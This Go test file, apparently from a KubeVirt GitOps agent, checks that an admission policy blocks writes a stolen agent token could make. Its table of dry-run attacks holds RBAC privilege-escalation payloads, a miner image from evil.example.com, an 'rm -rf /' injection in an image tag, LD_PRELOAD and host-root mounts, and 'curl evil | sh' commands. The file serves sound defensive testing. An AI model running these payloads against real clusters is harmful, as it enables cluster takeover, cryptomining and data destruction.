package executor_test

import (
	"bytes"
	"context"
	"os"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"sigs.k8s.io/yaml"

	"github.com/kvgitops/kvgitops/executor"
	"github.com/kvgitops/kvgitops/fault"
	"github.com/kvgitops/kvgitops/planner"
	"github.com/kvgitops/kvgitops/test/simulator"
	"github.com/kvgitops/kvgitops/test/testenv"
)

// applyAdmissionPolicy installs deploy/admission-policy.yaml, with mirrors
// added to its registries as a user configuring --release-image-registry
// would, and waits until the apiserver enforces it. Every executor test
// runs under it.
func applyAdmissionPolicy(t testing.TB, env *testenv.Env, mirrors ...string) {
	t.Helper()
	data, err := os.ReadFile("../deploy/admission-policy.yaml")
	if err != nil {
		t.Fatal(err)
	}
	const registries = `expression: "['quay.io/kubevirt', 'docker.io/kubevirt', 'index.docker.io/kubevirt']"`
	if !bytes.Contains(data, []byte(registries)) {
		t.Fatalf("deploy/admission-policy.yaml has no %s", registries)
	}
	extra := ""
	for _, m := range mirrors {
		extra += ", '" + m + "'"
	}
	data = bytes.Replace(data, []byte(registries), []byte(strings.Replace(registries, "]", extra+"]", 1)), 1)
	ctx := context.Background()
	if err := testenv.Apply(ctx, env.Config, data); err != nil {
		t.Fatalf("apply deploy/admission-policy.yaml: %v", err)
	}
	agent := dynamic.NewForConfigOrDie(env.Impersonate("kvgitops", "kvgitops"))
	probe := obj(`{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"kvgitops-policy-probe"}}`)
	deadline := time.Now().Add(30 * time.Second)
	for {
		_, err := agent.Resource(gvr("", "v1", "namespaces")).Create(ctx, probe, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		if apierrors.IsForbidden(err) && strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the admission policy is not enforced after 30s: %v", err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func gvr(g, v, r string) schema.GroupVersionResource {
	return schema.GroupVersionResource{Group: g, Version: v, Resource: r}
}

func obj(y string) *unstructured.Unstructured {
	u := &unstructured.Unstructured{}
	if err := yaml.Unmarshal([]byte(y), &u.Object); err != nil {
		panic(err)
	}
	return u
}

// TestAdmissionPolicyBoundsALeakedToken makes, with the agent's identity,
// every write a stolen token would try and RBAC alone allows: each is denied
// by deploy/admission-policy.yaml, and the same write as an administrator
// is not (the policy, not RBAC, is what stops it). Genuine manifests still
// apply under the policy: every executor test, TestInstallerRBACOnGenuineManifests
// among them, runs with it.
func TestAdmissionPolicyBoundsALeakedToken(t *testing.T) {
	h := start(t, harnessOptions{})
	env := testenv.Get(t)
	ctx := context.Background()
	h.install(t, "v1.8.4", planner.MethodOperator)
	if _, err := h.sim.CreateVM(ctx, "default", "db", simulator.RunStrategyAlways); err != nil {
		t.Fatal(err)
	}
	if _, err := h.sim.CreateVMI(ctx, "default", "scratch"); err != nil {
		t.Fatal(err)
	}
	agent := dynamic.NewForConfigOrDie(env.Impersonate("kvgitops", "kvgitops"))
	admin := dynamic.NewForConfigOrDie(env.Config)
	vmi, vm := gvr("kubevirt.io", "v1", "virtualmachineinstances"), gvr("kubevirt.io", "v1", "virtualmachines")
	dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
	crb, cr := gvr("rbac.authorization.k8s.io", "v1", "clusterrolebindings"), gvr("rbac.authorization.k8s.io", "v1", "clusterroles")
	rb, dep := gvr("rbac.authorization.k8s.io", "v1", "rolebindings"), gvr("apps", "v1", "deployments")
	crd := gvr("apiextensions.k8s.io", "v1", "customresourcedefinitions")
	deployment := func(ns, sa, image string) *unstructured.Unstructured {
		return obj(`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"virt-operator","namespace":"` + ns + `"},
			"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},
			"spec":{"serviceAccountName":"` + sa + `","containers":[{"name":"c","image":"` + image + `"}]}}}}`)
	}
	const ownObject = "a second key in the agent's memory"
	patchCR := func(patch string) func(dynamic.Interface) error {
		return func(c dynamic.Interface) error {
			_, err := c.Resource(kvGVR).Namespace("kubevirt").Patch(ctx, "kubevirt", types.MergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}
	}
	patchOperator := func(patch string) func(dynamic.Interface) error {
		return func(c dynamic.Interface) error {
			_, err := c.Resource(dep).Namespace("kubevirt").Patch(ctx, "virt-operator", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}
	}
	addRule := func(res schema.GroupVersionResource, ns, name, rule string) func(dynamic.Interface) error {
		return func(c dynamic.Interface) error {
			r := dynamic.ResourceInterface(c.Resource(res))
			if ns != "" {
				r = c.Resource(res).Namespace(ns)
			}
			_, err := r.Patch(ctx, name, types.JSONPatchType, []byte(`[{"op":"add","path":"/rules/-","value":`+rule+`}]`), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}
	}
	attacks := []struct {
		name string
		do   func(c dynamic.Interface) error
	}{
		{"bind kubevirt-operator to the agent itself", func(c dynamic.Interface) error {
			_, err := c.Resource(crb).Create(ctx, obj(`{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"pwn"},
				"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"kubevirt-operator"},
				"subjects":[{"kind":"ServiceAccount","name":"kvgitops","namespace":"kvgitops"}]}`), dry)
			return err
		}},
		{"widen kubevirt-operator to everything", func(c dynamic.Interface) error {
			patch := `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`
			_, err := c.Resource(cr).Patch(ctx, "kubevirt-operator", types.MergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}},
		{"make kubevirt-operator aggregate every role", func(c dynamic.Interface) error {
			patch := `{"aggregationRule":{"clusterRoleSelectors":[{}]}}`
			_, err := c.Resource(cr).Patch(ctx, "kubevirt-operator", types.MergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}},
		{"bind the operator Role in another namespace", func(c dynamic.Interface) error {
			_, err := c.Resource(rb).Namespace("default").Create(ctx, obj(`{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"pwn","namespace":"default"},
				"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"kubevirt-operator"},
				"subjects":[{"kind":"ServiceAccount","name":"kubevirt-operator","namespace":"kubevirt"}]}`), dry)
			return err
		}},
		{"a Deployment in another namespace", func(c dynamic.Interface) error {
			_, err := c.Resource(dep).Namespace("default").Create(ctx, deployment("default", "default", "quay.io/kubevirt/virt-operator:v1.8.4"), dry)
			return err
		}},
		{"the operator Deployment with another ServiceAccount", func(c dynamic.Interface) error {
			patch := `{"spec":{"template":{"spec":{"serviceAccountName":"default"}}}}`
			_, err := c.Resource(dep).Namespace("kubevirt").Patch(ctx, "virt-operator", types.MergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}},
		{"the operator's ServiceAccount running another image", func(c dynamic.Interface) error {
			_, err := c.Resource(dep).Namespace("kubevirt").Create(ctx, deployment("kubevirt", "kubevirt-operator", "evil.example.com/miner:latest"), dry)
			if apierrors.IsAlreadyExists(err) {
				patch := `{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","image":"evil.example.com/miner:latest"}]}}}}`
				_, err = c.Resource(dep).Namespace("kubevirt").Patch(ctx, "virt-operator", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			}
			return err
		}},
		{"delete a ClusterRole KubeVirt does not manage", func(c dynamic.Interface) error {
			return c.Resource(cr).Delete(ctx, "admin", metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}})
		}},
		{"delete a CRD KubeVirt does not manage", func(c dynamic.Interface) error {
			return c.Resource(crd).Delete(ctx, "leases.example.com", metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}})
		}},
		{"create another namespace", func(c dynamic.Interface) error {
			_, err := c.Resource(gvr("", "v1", "namespaces")).Create(ctx, obj(`{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"evil"}}`), dry)
			return err
		}},
		// The KubeVirt CR: only the image tag and registry, and the settings
		// of kubevirtConfig in their shape, move.
		{"point KubeVirt at another registry", patchCR(`{"spec":{"imageRegistry":"evil.example.com/kubevirt"}}`)},
		{"pin KubeVirt to a tag that is no release", patchCR(`{"spec":{"imageTag":"latest; rm -rf /"}}`)},
		{"patch KubeVirt's components (customizeComponents)", patchCR(`{"spec":{"customizeComponents":{"patches":[{"resourceName":"virt-handler","resourceType":"DaemonSet","type":"strategic","patch":"{}"}]}}}`)},
		{"let a delete take every VM (uninstallStrategy)", patchCR(`{"spec":{"uninstallStrategy":"RemoveWorkloads"}}`)},
		{"change a KubeVirt setting kubevirtConfig has no place for", patchCR(`{"spec":{"configuration":{"developerConfiguration":{"memoryOvercommit":150}}}}`)},
		{"let migrations ignore safety (unsafeMigrationOverride)", patchCR(`{"spec":{"configuration":{"migrations":{"unsafeMigrationOverride":true}}}}`)},
		{"obsoleteCPUModels not in its shape", patchCR(`{"spec":{"configuration":{"obsoleteCPUModels":{"kvm64":"yes please"}}}}`)},
		{"change KubeVirt's network configuration", patchCR(`{"spec":{"configuration":{"network":{"defaultNetworkInterface":"bridge"}}}}`)},
		{"a workload update method KubeVirt does not have", patchCR(`{"spec":{"workloadUpdateStrategy":{"workloadUpdateMethods":["Reboot"]}}}`)},
		{"place virt-handler by affinity (not in kubevirtConfig)", patchCR(`{"spec":{"workloads":{"nodePlacement":{"affinity":{}}}}}`)},
		{"add a finalizer to the KubeVirt CR", patchCR(`{"metadata":{"finalizers":["example.com/hold"]}}`)},
		{"label the KubeVirt CR", patchCR(`{"metadata":{"labels":{"example.com/x":"y"}}}`)},
		// The operator Deployment, as Vet accepts it only.
		{"virt-handler from another registry (VIRT_HANDLER_IMAGE)", patchOperator(`{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","env":[{"name":"VIRT_HANDLER_IMAGE","value":"evil.example.com/virt-handler:v1.8.4"}]}]}}}}`)},
		{"an environment variable no release has", patchOperator(`{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","env":[{"name":"LD_PRELOAD","value":"/tmp/x.so"}]}]}}}}`)},
		{"a privileged operator", patchOperator(`{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","securityContext":{"privileged":true,"allowPrivilegeEscalation":true}}]}}}}`)},
		{"the host's root mounted into the operator", patchOperator(`{"spec":{"template":{"spec":{"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}}}`)},
		{"another repository of KubeVirt's registry as the operator", patchOperator(`{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","image":"quay.io/kubevirt/virt-handler:v1.8.4"}]}}}}`)},
		{"another command", patchOperator(`{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","command":["sh","-c","curl evil | sh"]}]}}}}`)},
		{"an operator on the host's network", patchOperator(`{"spec":{"template":{"spec":{"hostNetwork":true}}}}`)},
		{"the operator as another ServiceAccount", patchOperator(`{"spec":{"template":{"spec":{"serviceAccountName":"default"}}}}`)},
		// Roles: no rule beyond a release's.
		{"widen kubevirt-operator with impersonate", addRule(cr, "", "kubevirt-operator", `{"apiGroups":[""],"resources":["users","serviceaccounts"],"verbs":["impersonate"]}`)},
		{"widen kubevirt-operator with bind", addRule(cr, "", "kubevirt-operator", `{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["bind"]}`)},
		{"widen kubevirt-operator to delete every Secret", addRule(cr, "", "kubevirt-operator", `{"apiGroups":[""],"resources":["secrets"],"verbs":["delete"]}`)},
		{"the namespaced operator role exec'ing into pods", addRule(gvr("rbac.authorization.k8s.io", "v1", "roles"), "kubevirt", "kubevirt-operator", `{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create"]}`)},
		{"kubevirt-operator using an SCC no release names", addRule(cr, "", "kubevirt-operator", `{"apiGroups":["security.openshift.io"],"resources":["securitycontextconstraints"],"verbs":["use"],"resourceNames":["anyuid"]}`)},
		{"every namespace admin gets Secrets (kubevirt.io:operator aggregates to admin)", addRule(cr, "", "kubevirt.io:operator", `{"apiGroups":[""],"resources":["secrets"],"verbs":["get"]}`)},
		// CRDs: a label added by an update does not make a CRD KubeVirt's.
		{"claim a foreign CRD with KubeVirt's label", func(c dynamic.Interface) error {
			_, err := c.Resource(crd).Patch(ctx, "leases.example.com", types.MergePatchType, []byte(`{"metadata":{"labels":{"app.kubernetes.io/managed-by":"virt-operator"}}}`), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}},
		// Workloads: finalizers go only from one being deleted.
		{"stop a VM (runStrategy Halted)", func(c dynamic.Interface) error {
			u, err := c.Resource(vm).Namespace("default").Get(ctx, "db", metav1.GetOptions{})
			if err != nil {
				return err
			}
			_ = unstructured.SetNestedField(u.Object, "Halted", "spec", "runStrategy")
			_, err = c.Resource(vm).Namespace("default").Update(ctx, u, metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}},
		{"strip a running VMI of its finalizers", func(c dynamic.Interface) error {
			u, err := c.Resource(vmi).Namespace("default").Get(ctx, "db", metav1.GetOptions{})
			if err != nil {
				return err
			}
			u.SetFinalizers(nil)
			_, err = c.Resource(vmi).Namespace("default").Update(ctx, u, metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}},
		{"delete a VMI no VM starts again", func(c dynamic.Interface) error {
			return c.Resource(vmi).Namespace("default").Delete(ctx, "scratch", metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}})
		}},
		// The agent's own memory: its one key, bounded.
		{"a second key in the agent's memory", func(c dynamic.Interface) error {
			cms := gvr("", "v1", "configmaps")
			cm, err := admin.Resource(cms).Namespace("kvgitops").Get(ctx, "kvgitops-memory", metav1.GetOptions{})
			if err != nil {
				return err
			}
			_ = unstructured.SetNestedField(cm.Object, "curl evil | sh", "data", "script.sh")
			_, err = c.Resource(cms).Namespace("kvgitops").Update(ctx, cm, metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}},
	}
	// The agent's own rights (deploy/rbac-agent.yaml) and memory.
	for _, f := range []string{"namespace.yaml", "serviceaccount.yaml", "rbac-agent.yaml"} {
		data, err := os.ReadFile("../deploy/" + f)
		if err != nil {
			t.Fatal(err)
		}
		if err := testenv.Apply(ctx, env.Config, data); err != nil {
			t.Fatal(err)
		}
	}
	if err := testenv.Apply(ctx, env.Config, []byte(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"kvgitops-memory","namespace":"kvgitops"},"data":{"memory.json":"{}"}}`)); err != nil {
		t.Fatal(err)
	}
	// A CRD nobody manages, for the CRD attack.
	if _, err := admin.Resource(crd).Create(ctx, obj(`{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition","metadata":{"name":"leases.example.com"},
		"spec":{"group":"example.com","scope":"Namespaced","names":{"plural":"leases","kind":"Lease"},
		"versions":[{"name":"v1","served":true,"storage":true,"schema":{"openAPIV3Schema":{"type":"object"}}}]}}`), metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = admin.Resource(crd).Delete(context.Background(), "leases.example.com", metav1.DeleteOptions{})
	})

	// Without the policy, RBAC alone lets the agent do each of these.
	vap := gvr("admissionregistration.k8s.io", "v1", "validatingadmissionpolicybindings")
	if err := admin.Resource(vap).Delete(ctx, "kvgitops-installer-bounds", metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for a := attacks[len(attacks)-1]; a.do(agent) != nil && time.Now().Before(deadline); {
		time.Sleep(100 * time.Millisecond) // until the apiserver forgets the binding
	}
	for _, a := range attacks {
		if err := a.do(agent); err != nil {
			t.Errorf("without the policy, %s: %v (RBAC should allow it, or the attack is not one)", a.name, err)
		}
	}
	applyAdmissionPolicy(t, env)
	// kvgitops deployed in a namespace of another name (kustomize
	// `namespace:`) is bound all the same.
	renamed := dynamic.NewForConfigOrDie(env.Impersonate("platform-gitops", "kvgitops"))
	if err := testenv.Apply(ctx, env.Config, []byte(`{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"kvgitops-installer-renamed"},
		"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"kvgitops-installer"},
		"subjects":[{"kind":"ServiceAccount","name":"kvgitops","namespace":"platform-gitops"}]}`)); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = admin.Resource(crb).Delete(context.Background(), "kvgitops-installer-renamed", metav1.DeleteOptions{})
	})
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		if _, err := renamed.Resource(kvGVR).Namespace("kubevirt").Get(ctx, "kubevirt", metav1.GetOptions{}); err == nil {
			break // RBAC grants the renamed ServiceAccount what it grants the agent
		} else if time.Now().After(deadline) {
			t.Fatalf("the renamed ServiceAccount's binding is not in force: %v", err)
		}
	}
	for _, a := range attacks {
		for who, c := range map[string]dynamic.Interface{"the agent": agent, "the agent in a renamed namespace": renamed} {
			if c == renamed && a.name == ownObject {
				continue // only its own namespace's ServiceAccount reaches it through RBAC
			}
			err := a.do(c)
			if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "kvgitops-installer-bounds") {
				t.Errorf("%s as %s: %v, want denied by kvgitops-installer-bounds", a.name, who, err)
			}
		}
		if err := a.do(admin); err != nil {
			t.Errorf("%s as an administrator: %v (the policy must bind the agent only)", a.name, err)
		}
	}
	// What kubevirtConfig holds stays allowed (useEmulation: nodes without
	// hardware virtualization).
	if err := patchCR(`{"spec":{"configuration":{"developerConfiguration":{"useEmulation":true}}}}`)(agent); err != nil {
		t.Errorf("turning on useEmulation: %v, want allowed", err)
	}
	// …and the obsolete CPU model list (nested KVM's kvm64 host model).
	if err := patchCR(`{"spec":{"configuration":{"obsoleteCPUModels":{"486":true,"pentium":true}}}}`)(agent); err != nil {
		t.Errorf("setting obsoleteCPUModels: %v, want allowed", err)
	}
	// What spec.workloads.unmovable: Restart needs stays allowed.
	if err := agent.Resource(vmi).Namespace("default").Delete(ctx, "db", metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}}); err != nil {
		t.Errorf("deleting a VMI its VM starts again: %v, want allowed", err)
	}
}

// TestAManifestTheClusterRefusesAppliesNothing: every object of a release
// goes through admission before the first is written, so a refusal of the
// last one (a policy whose registries no longer hold the release's image)
// leaves the cluster as it was instead of half upgraded.
func TestAManifestTheClusterRefusesAppliesNothing(t *testing.T) {
	h := start(t, harnessOptions{})
	env := testenv.Get(t)
	h.install(t, "v1.7.4", planner.MethodOperator)
	data, err := os.ReadFile("../deploy/admission-policy.yaml")
	if err != nil {
		t.Fatal(err)
	}
	moved := bytes.Replace(data, []byte(`"['quay.io/kubevirt', 'docker.io/kubevirt', 'index.docker.io/kubevirt']"`), []byte(`"['mirror.example.com/kubevirt']"`), 1)
	if err := testenv.Apply(t.Context(), env.Config, moved); err != nil {
		t.Fatal(err)
	}
	agent := dynamic.NewForConfigOrDie(env.Impersonate("kvgitops", "kvgitops"))
	// enforced waits until the apiserver refuses (or admits again) the
	// operator Deployment as it is.
	enforced := func(refused bool) {
		for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(100 * time.Millisecond) {
			_, err := agent.Resource(gvr("apps", "v1", "deployments")).Namespace("kubevirt").Patch(context.Background(), "virt-operator", types.MergePatchType,
				[]byte(`{"metadata":{"labels":{"probe":"x"}}}`), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			if apierrors.IsForbidden(err) == refused {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("the policy is not in force after 30s: %v", err)
			}
		}
	}
	t.Cleanup(func() {
		applyAdmissionPolicy(t, env)
		enforced(false)
	})
	enforced(true)
	before := h.objectVersions(t)
	_, err2 := h.run(t, upgrade("v1.7.4", "v1.8.4", planner.MethodOperator), time.Minute)
	if fault.ReasonOf(err2) != executor.ReasonForbidden || !fault.Stalls(err2) || !strings.Contains(err2.Error(), "nothing was applied") || !strings.Contains(err2.Error(), "Deployment virt-operator") {
		t.Fatalf("the refused hop: %v", err2)
	}
	if after := h.objectVersions(t); before != after {
		t.Errorf("objects changed although the manifest was refused:\nbefore %v\nafter  %v", before, after)
	}
}
